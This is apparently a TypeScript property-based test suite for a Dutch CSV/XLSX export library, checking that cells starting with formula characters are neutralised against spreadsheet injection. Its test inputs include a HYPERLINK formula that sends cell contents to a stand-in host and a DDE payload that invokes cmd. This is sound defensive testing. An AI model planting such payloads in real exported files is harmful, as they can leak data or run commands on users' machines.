import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { maakWerkboek, naarCsv, neutraliseer, type CsvDialect } from '../src/index.ts';

/** The fields of a CSV text (without BOM), with quotes undone, as a spreadsheet reads them. */
function leesCsv(csv: string, dialect: CsvDialect): string[][] {
  const tekst = csv.replace(/^\uFEFF/, '');
  const scheiding = dialect === 'nl' ? ';' : ',';
  const rijen: string[][] = [];
  let rij: string[] = [];
  let veld = '';
  let i = 0;
  let tussenAanhalingstekens = false;
  while (i < tekst.length) {
    const c = tekst[i]!;
    if (tussenAanhalingstekens) {
      if (c === '"' && tekst[i + 1] === '"') {
        veld += '"';
        i += 2;
        continue;
      }
      if (c === '"') tussenAanhalingstekens = false;
      else veld += c;
      i++;
      continue;
    }
    if (c === '"') tussenAanhalingstekens = true;
    else if (c === scheiding) {
      rij.push(veld);
      veld = '';
    } else if (c === '\r' && tekst[i + 1] === '\n') {
      rij.push(veld);
      rijen.push(rij);
      rij = [];
      veld = '';
      i++;
    } else veld += c;
    i++;
  }
  return rijen;
}

const GEVAARLIJK = ['=', '+', '-', '@', '\t', '\r'];
const begintGevaarlijk = (s: string) => GEVAARLIJK.some((g) => s.startsWith(g));
const dialect = fc.constantFrom<CsvDialect>('rfc4180', 'nl');
/** Text that often starts with a formula character, as an attacker would write it. */
const tekst = fc.oneof(fc.string(), fc.tuple(fc.constantFrom(...GEVAARLIJK), fc.string()).map(([a, b]) => a + b), fc.constantFrom('=HYPERLINK("http://x.test/?"&A1,"klik")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '+31 6 1234'));

describe('spreadsheet injection (OWASP CSV injection)', () => {
  it('neutralises text starting with = + - @ tab or carriage return with a leading quote, and leaves other text alone', () => {
    expect(neutraliseer('=HYPERLINK("http://x.test","klik")')).toBe('\'=HYPERLINK("http://x.test","klik")');
    expect(neutraliseer('-2+3')).toBe("'-2+3");
    expect(neutraliseer('\tx')).toBe("'\tx");
    expect(neutraliseer("'s-Hertogenbosch")).toBe("'s-Hertogenbosch");
    expect(neutraliseer('Dinkelland')).toBe('Dinkelland');
    fc.assert(fc.property(tekst, (s) => neutraliseer(s) === (begintGevaarlijk(s) ? `'${s}` : s)));
  });

  it('no text field of either CSV dialect starts with a formula character, and the text is otherwise kept', () => {
    fc.assert(
      fc.property(dialect, fc.array(tekst, { minLength: 1, maxLength: 4 }), fc.array(tekst, { minLength: 1, maxLength: 4 }), (d, kop, rij) => {
        const velden = leesCsv(naarCsv(kop, [rij], d), d);
        expect(velden).toEqual([kop.map(neutraliseer), rij.map(neutraliseer)]);
        for (const v of velden.flat()) expect(begintGevaarlijk(v)).toBe(false);
      }),
    );
  });

  it('numbers stay numbers in both dialects, negative ones included', () => {
    fc.assert(
      fc.property(dialect, fc.integer({ min: -1e12, max: 1e12 }), fc.double({ min: -1e9, max: 1e9, noNaN: true, noDefaultInfinity: true }), (d, n, x) => {
        const [[a, b]] = leesCsv(naarCsv([], [[n, x]], d), d).slice(1) as [[string, string]];
        expect(Number(a)).toBe(n);
        expect(Number(d === 'nl' ? b.replace(',', '.') : b)).toBeCloseTo(Math.round(x * 1e6) / 1e6, 5);
      }),
    );
  });

  it('XLSX: text cells, headers and the Toelichting are neutralised; numbers stay numbers', async () => {
    await fc.assert(
      fc.asyncProperty(tekst, fc.integer({ min: -1e9, max: 1e9 }), async (s, n) => {
        const bytes = await maakWerkboek(
          { titel: 'Test', kolommen: [{ naam: s, soort: 'tekst' }, { naam: 'Aantal', soort: 'aantal' }], rijen: [[s, n]] },
          { keuze: [['Gebied', s]], bronnen: [{ naam: s, sha256: 'ab' }], datapakket: 'bf25' },
        );
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(bytes as unknown as ArrayBuffer);
        const blad = wb.worksheets[0]!;
        // XML reads a carriage return as a line feed; the leading quote is what matters.
        const verwacht = neutraliseer(s).replace(/\r\n?/g, '\n');
        expect(blad.getCell('A1').value).toBe(verwacht);
        expect(blad.getCell('A2').value).toBe(verwacht);
        expect(blad.getCell('B2').value).toBe(n);
        const info = wb.getWorksheet('Toelichting')!.getSheetValues().flat().filter((v): v is string => typeof v === 'string');
        for (const v of info) expect(begintGevaarlijk(v)).toBe(false);
      }),
      { numRuns: 25 },
    );
  });
});
